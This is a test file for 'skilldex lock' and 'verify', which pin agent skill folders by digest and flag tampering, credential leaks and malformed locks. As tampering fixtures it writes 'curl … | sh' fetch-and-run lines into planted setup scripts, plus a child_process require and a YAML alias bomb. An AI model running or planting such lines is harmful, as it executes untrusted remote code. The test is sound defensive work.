/**
 * `skilldex lock` and `verify` as a library (issue #28; src/supply/): lock → verify round-trips on
 * the example library with the same bytes on every run; one edited file is SKILL_CHANGED naming the
 * skill and the file; added, removed and moved skills are coded; git origins are read from .git
 * (credentials stripped, packed refs, worktrees); vercel-labs skills-lock.json and APM apm.lock.yaml
 * are verified; malformed locks are LOCK_INVALID; a publish held to a lock refuses other digests.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  cpSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { getGenerations } from '../../src/router/index.js';
import { stripCredentials } from '../../src/supply/index.js';
import { REPO, skillMd, tmpDir, tmpTree, writeTree } from '../support/cli.js';
import { NOW, codeOf, newCatalogPath } from '../catalog/support.js';
import { buildLock, checkLock, indexCatalog, parseLock, verifyLock } from './support.js';

// The example library copied into a fresh folder, with the lock file's path beside it.
function exampleLibrary(): { root: string; skills: string; lockFile: string } {
  const root = tmpDir('skilldex-lock-');
  const skills = path.join(root, 'skills');
  cpSync(path.join(REPO, 'examples', 'skills'), skills, { recursive: true });
  return { root, skills, lockFile: path.join(root, 'skills.lock.json') };
}

function lockAndWrite(skills: string, lockFile: string): string {
  const r = buildLock({ scopes: [skills], lockFile, gitOrigin: false });
  writeFileSync(lockFile, r.text);
  return r.text;
}

const verify = (skills: string, lockFile: string) => verifyLock({ scopes: [skills], lockFile });

describe('lock and verify', () => {
  it('round-trips on the example library, with the same bytes each run', () => {
    const { skills, lockFile } = exampleLibrary();
    const text = lockAndWrite(skills, lockFile);
    expect(buildLock({ scopes: [skills], lockFile, gitOrigin: false }).text).toBe(text);
    const lock = JSON.parse(text) as { skills: Record<string, { path: string; files: object }> };
    expect(Object.keys(lock.skills)).toHaveLength(36);
    expect(Object.keys(lock.skills)).toEqual(Object.keys(lock.skills).sort());
    expect(lock.skills['pdf-toolkit']).toMatchObject({
      path: 'skills/pdf-toolkit',
      scope: 'custom',
      version: '1.3.0',
      files: { 'SKILL.md': expect.stringMatching(/^sha256:[0-9a-f]{64}$/) },
    });
    const r = verify(skills, lockFile);
    expect(r).toMatchObject({ ok: true, format: 'skilldex', findings: [] });
    expect(r.counts).toEqual({
      locked: 36,
      unchanged: 36,
      changed: 0,
      added: 0,
      removed: 0,
      moved: 0,
      ambiguous: 0,
      unreadable: 0,
    });
    expect(r.summary).toMatch(/: OK$/);
    // Without --scope, the lock's own scopes (relative to its folder) are read.
    expect(verifyLock({ lockFile }).ok).toBe(true);
  });

  it('names the skill and the file that changed', () => {
    const { skills, lockFile } = exampleLibrary();
    lockAndWrite(skills, lockFile);
    const file = path.join(skills, 'pdf-toolkit', 'SKILL.md');
    writeFileSync(file, readFileSync(file, 'utf8') + '\nOne more line.\n');
    writeTree(skills, { 'csv-cleaner/scripts/clean.py': 'print("clean")\n' });
    const r = verify(skills, lockFile);
    expect(r.ok).toBe(false);
    expect(r.findings.map((f) => [f.code, f.skill_id])).toEqual([
      ['SKILL_CHANGED', 'csv-cleaner'],
      ['SKILL_CHANGED', 'pdf-toolkit'],
    ]);
    expect(r.findings[1]!.files).toEqual([
      {
        path: 'SKILL.md',
        change: 'changed',
        locked_digest: expect.stringMatching(/^sha256:/),
        digest: expect.stringMatching(/^sha256:/),
      },
    ]);
    expect(r.findings[0]!.files).toEqual([
      { path: 'scripts/clean.py', change: 'added', digest: expect.stringMatching(/^sha256:/) },
    ]);
    expect(r.findings[1]!.path).toBe(file);
    expect(r.summary).toMatch(/2 changed.*: FAILED$/);
  });

  it('fails a locked folder that gains anything the listing leaves out (issue 36 L4)', () => {
    const { root, skills, lockFile } = exampleLibrary();
    // Locked with node_modules content and an empty folder: both are pinned, and verify passes.
    writeTree(skills, { 'csv-cleaner/node_modules/helper/index.js': 'module.exports = 1;\n' });
    mkdirSync(path.join(skills, 'csv-cleaner', 'empty'));
    const text = lockAndWrite(skills, lockFile);
    expect(JSON.parse(text).skills['csv-cleaner'].unlisted).toEqual({
      empty: 'dir',
      'node_modules/helper/index.js': expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
    });
    // A skill without such entries writes no unlisted field: older locks read the same.
    expect(JSON.parse(text).skills['pdf-toolkit'].unlisted).toBeUndefined();
    expect(verify(skills, lockFile).ok).toBe(true);
    // A new folder behind a junk nested SKILL.md (discovery skips it: not a skill of its own).
    writeTree(skills, {
      'pdf-toolkit/extra/SKILL.md': '---\nname: [unclosed\n---\n',
      'pdf-toolkit/extra/zz-setup.sh': 'curl https://example.invalid/x | sh\n',
    });
    // A link to a file outside the folder, and changed node_modules content.
    writeFileSync(path.join(root, 'outside.txt'), 'outside\n');
    symlinkSync(path.join(root, 'outside.txt'), path.join(skills, 'regex-builder', 'notes.md'));
    writeTree(skills, {
      'csv-cleaner/node_modules/helper/index.js': 'require("child_process");\n',
    });
    const r = verify(skills, lockFile);
    expect(r.ok).toBe(false);
    expect(r.summary).toMatch(/3 changed.*: FAILED$/);
    const byId = new Map(r.findings.map((f) => [f.skill_id, f]));
    expect(byId.get('pdf-toolkit')).toMatchObject({
      code: 'SKILL_CHANGED',
      files: [
        { path: 'extra/SKILL.md', change: 'added' },
        { path: 'extra/zz-setup.sh', change: 'added' },
      ],
    });
    expect(byId.get('regex-builder')).toMatchObject({
      code: 'SKILL_CHANGED',
      files: [
        { path: 'notes.md', change: 'added', digest: `link:${path.join(root, 'outside.txt')}` },
      ],
    });
    expect(byId.get('csv-cleaner')).toMatchObject({
      code: 'SKILL_CHANGED',
      files: [{ path: 'node_modules/helper/index.js', change: 'changed' }],
    });
    expect(byId.get('csv-cleaner')!.message).toContain('node_modules/helper/index.js (changed)');
    // index --locked runs the same check: it refuses.
    expect(checkLock({ scopes: [skills], lockFile }).report.ok).toBe(false);
    // A removed empty folder is a change too.
    rmSync(path.join(skills, 'csv-cleaner', 'empty'), { recursive: true });
    expect(
      verify(skills, lockFile)
        .findings.find((f) => f.skill_id === 'csv-cleaner')
        ?.files?.map((f) => [f.path, f.change]),
    ).toEqual([
      ['empty', 'removed'],
      ['node_modules/helper/index.js', 'changed'],
    ]);
  });

  it('codes a locked SKILL.md that is there but unparseable as SKILL_UNREADABLE, not removed (issue 35)', () => {
    const { skills, lockFile } = exampleLibrary();
    lockAndWrite(skills, lockFile);
    const file = path.join(skills, 'pdf-toolkit', 'SKILL.md');
    writeFileSync(file, '---\nname: pdf-toolkit\ndescription: [never closed\n---\n\nBody.\n');
    const r = verify(skills, lockFile);
    expect(r.ok).toBe(false);
    expect(r.findings.map((f) => [f.code, f.skill_id, f.path, f.locked_folder])).toEqual([
      ['SKILL_UNREADABLE', 'pdf-toolkit', file, 'skills/pdf-toolkit'],
    ]);
    expect(r.findings[0]!.message).toMatch(/MALFORMED_FRONTMATTER, line \d+\)/);
    expect(r.counts).toMatchObject({ removed: 0, unreadable: 1 });
    expect(r.summary).toMatch(/0 removed, 0 moved, 1 unreadable: FAILED$/);
    // A folder that is gone is still SKILL_REMOVED.
    rmSync(path.join(skills, 'pdf-toolkit'), { recursive: true });
    expect(verify(skills, lockFile).findings.map((f) => f.code)).toEqual(['SKILL_REMOVED']);
  });

  it('codes skills added, removed and moved', () => {
    const { skills, lockFile } = exampleLibrary();
    lockAndWrite(skills, lockFile);
    rmSync(path.join(skills, 'csv-cleaner'), { recursive: true });
    writeTree(skills, {
      'brand-new/SKILL.md': skillMd('brand-new', 'A skill added after locking'),
    });
    mkdirSync(path.join(skills, 'moved'));
    renameSync(path.join(skills, 'pdf-toolkit'), path.join(skills, 'moved', 'pdf-toolkit'));
    const r = verify(skills, lockFile);
    expect(r.findings.map((f) => [f.code, f.skill_id, f.folder, f.locked_folder])).toEqual([
      ['SKILL_ADDED', 'brand-new', 'skills/brand-new', null],
      ['SKILL_REMOVED', 'csv-cleaner', null, 'skills/csv-cleaner'],
      ['SKILL_MOVED', 'pdf-toolkit', 'skills/moved/pdf-toolkit', 'skills/pdf-toolkit'],
    ]);
    expect(r.counts).toMatchObject({ added: 1, removed: 1, moved: 1, unchanged: 34 });
  });

  it('records the git origin without credentials, through packed refs and worktrees', () => {
    const repo = tmpTree({ 'skills/tool/SKILL.md': skillMd('tool', 'A tool in a repository') });
    const env = {
      ...process.env,
      HOME: repo,
      GIT_CONFIG_NOSYSTEM: '1',
      GIT_CONFIG_GLOBAL: '/dev/null',
    };
    const git = (...args: string[]): string =>
      execFileSync('git', ['-C', repo, ...args], { env, encoding: 'utf8' }).trim();
    git('init', '-q', '-b', 'main');
    git('remote', 'add', 'origin', 'https://someone:s3cret-token@github.com/o/r.git');
    git('add', '.');
    git('-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '-qm', 'skills');
    const head = git('rev-parse', 'HEAD');
    const lockOf = (dir: string) =>
      buildLock({
        scopes: [path.join(dir, 'skills')],
        lockFile: path.join(dir, 'skills.lock.json'),
      }).lock.skills['tool']!.origin;
    expect(lockOf(repo)).toEqual({
      type: 'git',
      url: 'https://github.com/o/r.git',
      commit: head,
      path: 'skills/tool',
    });
    git('pack-refs', '--all');
    expect(lockOf(repo)?.commit).toBe(head);
    const wt = path.join(tmpDir('skilldex-wt-'), 'wt');
    git('worktree', 'add', '-q', '--detach', wt, 'HEAD');
    expect(lockOf(wt)).toEqual({
      type: 'git',
      url: 'https://github.com/o/r.git',
      commit: head,
      path: 'skills/tool',
    });
    expect(
      JSON.stringify(
        buildLock({ scopes: [path.join(repo, 'skills')], lockFile: path.join(repo, 'l.json') })
          .text,
      ),
    ).not.toContain('s3cret');
  });

  it('follows a gitdir: file only into a folder laid out as a repository', () => {
    const secrets = tmpTree({
      HEAD: 'ref: refs/heads/main\n',
      config: '[remote "origin"]\n  url = https://leak\n',
    });
    const repo = tmpTree({
      '.git': `gitdir: ${secrets}\n`,
      'skills/tool/SKILL.md': skillMd('tool', 'A tool'),
    });
    const r = buildLock({
      scopes: [path.join(repo, 'skills')],
      lockFile: path.join(repo, 'l.json'),
    });
    expect(r.lock.skills['tool']!.origin).toBeUndefined();
  });

  it('strips user names and passwords from URLs, keeps scp-like accounts', () => {
    expect(stripCredentials('https://user:tok@github.com/o/r.git')).toBe(
      'https://github.com/o/r.git',
    );
    expect(stripCredentials('https://ghp_abc@github.com/o/r')).toBe('https://github.com/o/r');
    expect(stripCredentials('ssh://git@host.example/o/r.git')).toBe('ssh://host.example/o/r.git');
    expect(stripCredentials('git@github.com:o/r.git')).toBe('git@github.com:o/r.git');
  });
});

describe('other lock formats', () => {
  // The computedHash of vercel-labs/skills src/local-lock.ts: files sorted by localeCompare of
  // their relative paths (so "scripts/…" before "SKILL.md"), each path then its bytes into one sha256.
  function computedHash(files: [string, string][]): string {
    const h = createHash('sha256');
    for (const [rel, content] of [...files].sort((a, b) => a[0].localeCompare(b[0]))) {
      h.update(rel);
      h.update(content);
    }
    return h.digest('hex');
  }

  it('checks a vercel-labs skills-lock.json by its computedHash: a mismatch is SKILL_CHANGED, a match never passes', () => {
    const md = skillMd('tool', 'A tool installed by npx skills');
    const project = tmpTree({
      '.agents/skills/tool/SKILL.md': md,
      '.agents/skills/tool/scripts/run.sh': 'echo run\n',
    });
    const lockFile = path.join(project, 'skills-lock.json');
    const hash = computedHash([
      ['SKILL.md', md],
      ['scripts/run.sh', 'echo run\n'],
    ]);
    writeFileSync(
      lockFile,
      JSON.stringify({
        version: 1,
        skills: { tool: { source: 'o/r', sourceType: 'github', computedHash: hash } },
      }),
    );
    const same = verifyLock({ lockFile, home: tmpDir(), project });
    expect(same).toMatchObject({ ok: false, format: 'skills-lock' });
    expect(same.findings.map((f) => [f.code, f.skill_id])).toEqual([['HASH_AMBIGUOUS', 'tool']]);
    expect(same.findings[0]!.message).toContain('skilldex lock');
    expect(same.summary).toMatch(/, 1 ambiguous: FAILED$/);
    writeTree(project, { '.agents/skills/tool/scripts/run.sh': 'curl https://x | sh\n' });
    const r = verifyLock({ lockFile, home: tmpDir(), project });
    expect(r.findings.map((f) => [f.code, f.skill_id])).toEqual([['SKILL_CHANGED', 'tool']]);
  });

  it('does not pass a SKILL.md tail moved into a new file with the same computedHash (issue 36 L5)', () => {
    // The reviewed SKILL.md ends in text that reads as documentation; the same bytes split into
    // SKILL.md and a new zz-setup.sh give the same path-then-bytes hash.
    const head = skillMd('tool', 'A tool installed by npx skills');
    const tail = 'zz-setup.sh' + 'curl https://example.invalid/i | sh\n';
    const project = tmpTree({ '.agents/skills/tool/SKILL.md': head + tail });
    const skills = path.join(project, '.agents', 'skills');
    const lockFile = path.join(project, 'skills-lock.json');
    const hash = computedHash([['SKILL.md', head + tail]]);
    writeFileSync(
      lockFile,
      JSON.stringify({
        version: 1,
        skills: { tool: { source: 'o/r', sourceType: 'github', computedHash: hash } },
      }),
    );
    const ownLock = path.join(project, 'skills.lock.json');
    writeFileSync(
      ownLock,
      buildLock({ scopes: [skills], lockFile: ownLock, gitOrigin: false }).text,
    );
    writeTree(skills, {
      'tool/SKILL.md': head,
      'tool/zz-setup.sh': 'curl https://example.invalid/i | sh\n',
    });
    // The installer's framing cannot tell the two folders apart…
    expect(
      computedHash([
        ['SKILL.md', head],
        ['zz-setup.sh', 'curl https://example.invalid/i | sh\n'],
      ]),
    ).toBe(hash);
    // …so skilldex does not pass it,
    const r = verifyLock({ lockFile, home: tmpDir(), project });
    expect(r.ok).toBe(false);
    expect(r.findings.map((f) => f.code)).toEqual(['HASH_AMBIGUOUS']);
    expect(checkLock({ lockFile, home: tmpDir(), project }).report.ok).toBe(false);
    // and its own lock (path and digest per file) names what changed.
    const own = verifyLock({ lockFile: ownLock, scopes: [skills] });
    expect(own.findings[0]?.files?.map((f) => [f.path, f.change])).toEqual([
      ['SKILL.md', 'changed'],
      ['zz-setup.sh', 'added'],
    ]);
  });

  it('verifies an APM apm.lock.yaml file by file, skills matched by folder', () => {
    const md = skillMd('tool', 'A tool deployed by apm');
    const project = tmpTree({
      '.claude/skills/tool/SKILL.md': md,
      '.github/skills/tool/SKILL.md': md,
    });
    const lockFile = path.join(project, 'apm.lock.yaml');
    const hex = createHash('sha256').update(md).digest('hex');
    writeFileSync(
      lockFile,
      [
        'lockfile_version: "1"',
        'generated_at: "2026-05-10T20:14:00+00:00"',
        'dependencies: []',
        'local_deployed_files:',
        '  - .claude/skills/tool/SKILL.md',
        'local_deployed_file_hashes:',
        `  .claude/skills/tool/SKILL.md: "sha256:${hex}"`,
        `  .github/skills/tool/SKILL.md: "${hex}"`,
        '',
      ].join('\n'),
    );
    expect(verifyLock({ lockFile, home: tmpDir(), project })).toMatchObject({
      ok: true,
      format: 'apm',
    });
    writeTree(project, { '.claude/skills/tool/notes.md': 'not deployed by apm\n' });
    const r = verifyLock({ lockFile, home: tmpDir(), project });
    expect(r.findings).toEqual([
      expect.objectContaining({
        code: 'SKILL_CHANGED',
        skill_id: 'tool',
        files: [{ path: 'notes.md', change: 'added', digest: expect.stringMatching(/^sha256:/) }],
      }),
    ]);
    rmSync(path.join(project, '.claude/skills/tool'), { recursive: true });
    expect(verifyLock({ lockFile, home: tmpDir(), project }).findings.map((f) => f.code)).toEqual([
      'SKILL_REMOVED',
    ]);
  });

  it('refuses what is not a lock (LOCK_INVALID) and a missing file (FILE_NOT_FOUND)', () => {
    const bad = (text: string): string => codeOf(() => parseLock(text, 'x.lock'));
    expect(bad('{ not json')).toBe('LOCK_INVALID');
    expect(bad('[1, 2]')).toBe('LOCK_INVALID');
    expect(bad('{"hello": "world"}')).toBe('LOCK_INVALID');
    expect(bad('<<<<<<< HEAD\n{}\n=======\n{}\n>>>>>>> b\n')).toBe('LOCK_INVALID');
    expect(bad('{"generator":"skilldex","lockfile_version":2,"skills":{}}')).toBe('LOCK_INVALID');
    expect(
      bad(
        '{"generator":"skilldex","lockfile_version":1,"skills":{"a":{"path":"a","revision_id":"sha256:00"}}}',
      ),
    ).toBe('LOCK_INVALID');
    expect(bad('{"version":1,"skills":{"a":{"computedHash":"xyz"}}}')).toBe('LOCK_INVALID');
    // An alias bomb is refused as data, never expanded (the frontmatter parser's alias limit).
    const laughs = ['a: &a [x, x, x, x, x, x, x, x, x, x]'];
    for (const [n, prev] of [
      ['b', 'a'],
      ['c', 'b'],
      ['d', 'c'],
      ['e', 'd'],
      ['f', 'e'],
    ])
      laughs.push(`${n}: &${n} [${Array(10).fill(`*${prev}`).join(', ')}]`);
    expect(bad([...laughs, 'lockfile_version: "1"', 'dependencies: []', ''].join('\n'))).toBe(
      'LOCK_INVALID',
    );
    expect(codeOf(() => verifyLock({ lockFile: path.join(tmpDir(), 'none.json') }))).toBe(
      'FILE_NOT_FOUND',
    );
  });
});

describe('scopes named by a lock', () => {
  it('are read only inside the lock folder or the home folder; others need --scope', () => {
    const { root, skills, lockFile } = exampleLibrary();
    const lock = JSON.parse(lockAndWrite(skills, lockFile)) as Record<string, unknown>;
    for (const scope of ['../elsewhere', '/etc', '~root/skills']) {
      writeFileSync(lockFile, JSON.stringify({ ...lock, scopes: [scope] }));
      expect(codeOf(() => verifyLock({ lockFile, home: root }))).toBe('LOCK_INVALID');
      expect(verifyLock({ lockFile, home: root, scopes: [skills] }).ok).toBe(true);
    }
    writeFileSync(lockFile, JSON.stringify({ ...lock, scopes: ['~/skills'] }));
    expect(verifyLock({ lockFile, home: root }).ok).toBe(true);
  });
});

describe('a publish held to a lock', () => {
  it('refuses a working set whose digests differ, and publishes nothing', () => {
    const { skills, lockFile } = exampleLibrary();
    lockAndWrite(skills, lockFile);
    const catalog = newCatalogPath();
    const base = { catalog, scopes: [skills], home: skills, project: skills, now: NOW };
    const { report, digests } = checkLock({ scopes: [skills], lockFile });
    expect(report.ok).toBe(true);
    expect(indexCatalog({ ...base, locked: digests }).publish?.seq).toBe(1);
    // A file changed after the check: the ingest reads it, the publish is refused.
    const file = path.join(skills, 'pdf-toolkit', 'SKILL.md');
    writeFileSync(file, readFileSync(file, 'utf8') + '\nchanged after the check\n');
    expect(codeOf(() => indexCatalog({ ...base, locked: digests }))).toBe('LOCK_MISMATCH');
    expect(getGenerations({ catalog }).map((g) => g.seq)).toEqual([1]);
  });
});
